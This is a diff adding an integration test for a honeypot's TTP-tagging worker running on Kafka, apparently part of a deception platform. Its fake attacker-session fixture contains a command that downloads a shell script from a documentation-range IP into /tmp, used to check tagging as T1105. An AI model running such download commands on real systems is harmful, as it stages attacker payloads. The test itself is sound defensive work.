@@ -1,0 +1,86 @@
+// The real bundle, standalone on Kafka: `node dist/workers/ttp/main.js` tags a session published
+// on Kafka, announces it on Kafka, exits 0 on SIGTERM, and its bundle holds no Kafka client of
+// its own beyond the host's (the import floor is checked by the bundle test).
+import { execFileSync, spawn, type ChildProcess } from 'node:child_process';
+import { resolve } from 'node:path';
+import { openKafkaTransport } from '@decnet/bus-kafka';
+import { silentLogger, type BusTransport } from '@decnet/core';
+import { captureEvents, eventually } from '@decnet/core/testing';
+import type { Database } from '@decnet/db';
+import type { ScratchDatabase } from '@decnet/testing/postgres';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { migratedDatabase, UPSTREAM_RULES_DIR } from './test-kit.fixture.js';
+
+const ROOT = resolve(import.meta.dirname, '../../..');
+let scratch: ScratchDatabase;
+let database: Database;
+let transport: BusTransport | undefined;
+let child: ChildProcess | undefined;
+let output = '';
+
+beforeAll(async () => {
+  execFileSync(process.execPath, ['tools/bundle/bundle.mjs', '--quiet', 'worker-ttp'], { cwd: ROOT, stdio: 'inherit' });
+  ({ scratch, database } = await migratedDatabase());
+}, 120_000);
+afterAll(async () => {
+  child?.kill('SIGKILL');
+  await transport?.close();
+  await database.close();
+  await scratch.drop();
+});
+
+describe('the ttp bundle runs standalone on Kafka', () => {
+  it('tags a session from Kafka, publishes ttp.tagged on Kafka, and stops cleanly on SIGTERM', async () => {
+    const brokers = process.env.KAFKA_BROKERS;
+    if (!brokers) throw new Error('KAFKA_BROKERS unset: add tools/testing/kafka-setup.ts to globalSetup');
+    const prefix = `ttp-standalone-${process.pid}`;
+    await database.pool.query("INSERT INTO attackers (uuid, ip) VALUES ('11111111-1111-4111-8111-111111111111', '198.51.100.7')");
+    transport = await openKafkaTransport({ brokers: brokers.split(','), prefix, instanceId: 'ttp-test', log: silentLogger });
+    const bus = transport.connect('test');
+    const tagged = captureEvents(bus, 'ttp.tagged');
+    child = spawn(process.execPath, ['dist/workers/ttp/main.js'], {
+      cwd: ROOT,
+      env: {
+        ...process.env,
+        DECNET_BUS: 'kafka',
+        KAFKA_BROKERS: brokers,
+        DECNET_KAFKA_PREFIX: prefix,
+        DATABASE_URL: scratch.url,
+        DECNET_TTP_RULES_DIR: UPSTREAM_RULES_DIR,
+        DECNET_LOG_LEVEL: 'warn',
+      },
+      stdio: ['ignore', 'pipe', 'pipe'],
+    });
+    child.stdout?.on('data', (d: Buffer) => (output += d.toString()));
+    child.stderr?.on('data', (d: Buffer) => (output += d.toString()));
+    const payload = {
+      session_id: 'kafka-1',
+      attacker_uuid: null,
+      attacker_ip: '198.51.100.7',
+      decky_id: 'decky-01',
+      service: 'ssh',
+      ended_at: '2026-05-02T06:01:00.000Z',
+      duration_s: 5,
+      commands: [{ id: 'kafka-1#0', command_text: 'curl -s http://203.0.113.9/a.sh -o /tmp/a.sh', ts: '2026-05-02T06:00:58.000Z', decky: 'decky-01', service: 'ssh' }],
+      shard_path: null,
+    };
+    // Until the worker's consumer group has joined, publish again: tags are idempotent.
+    await eventually(
+      async () => {
+        const n = Number((await database.pool.query<{ n: string }>('SELECT count(*) AS n FROM ttp_tag')).rows[0]?.n);
+        if (n === 0) await bus.publish('attacker.session.ended', payload);
+        return n === 1;
+      },
+      90_000,
+      1_000,
+    ).catch((err: unknown) => {
+      throw new Error(`${(err as Error).message}\n${output}`, { cause: err });
+    });
+    const [event] = await tagged.waitFor(1, 30_000);
+    expect(event?.payload).toMatchObject({ session_id: 'kafka-1', techniques_added: ['T1105'] });
+    const exit = new Promise<number | null>((r) => child?.once('exit', (code) => r(code)));
+    child.kill('SIGTERM');
+    expect(await exit).toBe(0);
+    child = undefined;
+  });
+});
